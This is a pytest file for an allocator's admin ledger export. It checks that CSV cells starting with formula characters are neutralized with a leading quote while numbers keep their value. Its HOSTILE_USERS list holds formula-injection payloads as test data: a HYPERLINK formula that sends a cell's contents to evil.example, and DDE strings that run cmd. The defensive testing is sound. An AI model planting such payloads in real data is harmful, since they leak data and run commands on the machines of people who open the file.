"""CSV exports never carry a formula (``allocator/admin/exports.py``, :func:`csv_cell`).

A user name or request key is whatever a hub sent: one that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return would run as a formula in the spreadsheet an admin opens
the export in. The real ``gpu-ledger export`` of a real ledger file shows each as text, with
a ``'`` in front (OWASP's advice), while numbers, negative ones too, stay numbers.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from allocator.admin.exports import FORMULA_STARTS, csv_cell, write_csv
from allocator.ledger.changes import Changes
from allocator.ledger.lease import LeaseRecord
from allocator.ledger.store import Ledger
from allocator.wire.protocol import LeaseState

REPO = Path(__file__).resolve().parents[2]

HOSTILE_USERS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
                 "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def a_ledger_with(path: Path, users: list[str]) -> None:
    """A real ledger with one queued lease per user, request key ``@key/<user>``, priority -5."""
    ledger = Ledger(path)
    ledger.open()
    try:
        changes = Changes()
        for n, user in enumerate(users):
            lease = LeaseRecord(lease_id=f"lease-{n}", request_key=f"@key/{n}", user=user,
                                groups=("=group",), state=LeaseState.QUEUED,
                                created_at=1000.0 + n, request={"user": user}, priority=-5,
                                enqueued_at=1000.0 + n, wait_until=1e10)
            changes.transition(lease, None, 1000.0 + n, "requested")
        ledger.call(lambda: ledger.commit(changes))
    finally:
        ledger.close()


def test_an_export_of_hostile_names_has_no_formula_and_keeps_negative_numbers(
        tmp_path: Path) -> None:
    path = tmp_path / "ledger.sqlite"
    a_ledger_with(path, HOSTILE_USERS)
    out = tmp_path / "leases.csv"
    run = subprocess.run([sys.executable, "-m", "allocator.admin.ledger_cli", "export",
                          "leases", "--ledger", str(path), "--output", str(out)],
                         capture_output=True, text=True, timeout=120, cwd=REPO, check=False)
    assert run.returncode == 0, run.stderr
    with out.open(encoding="utf-8", newline="") as file:  # a cell's own \r kept
        exported = list(csv.DictReader(file))
    assert [row["user"] for row in exported] == [f"'{user}" for user in HOSTILE_USERS]
    assert {row["request_key"][:2] for row in exported} == {"'@"}
    assert {row["priority"] for row in exported} == {"-5"}, "a number stays a number"
    text_cells = [cell for row in exported for name, cell in row.items() if name != "priority"]
    assert not [cell for cell in text_cells if cell.startswith(FORMULA_STARTS)], text_cells
    # the JSON export keeps the data as it is: only the CSV cells are neutralized
    as_json = subprocess.run([sys.executable, "-m", "allocator.admin.ledger_cli", "export",
                              "leases", "--ledger", str(path), "--format", "ndjson"],
                             capture_output=True, text=True, timeout=120, cwd=REPO, check=False)
    assert as_json.returncode == 0, as_json.stderr
    assert [json.loads(line)["user"] for line in as_json.stdout.splitlines()] == HOSTILE_USERS


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t1", "'\t1"),
    ("\r1", "'\r1"), ("alice", "alice"), ("", ""), ("a=b", "a=b"), (-3, -3), (-1.5, -1.5),
    (0, 0), (None, None),
])
def test_csv_cell_neutralizes_text_only(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_write_csv_writes_negative_numbers_as_numbers() -> None:
    out = io.StringIO()
    assert write_csv(out, ["user", "delta"], [("-bob", -3), ("carol", -0.25)]) == 2
    assert out.getvalue() == "user,delta\n'-bob,-3\ncarol,-0.25\n"
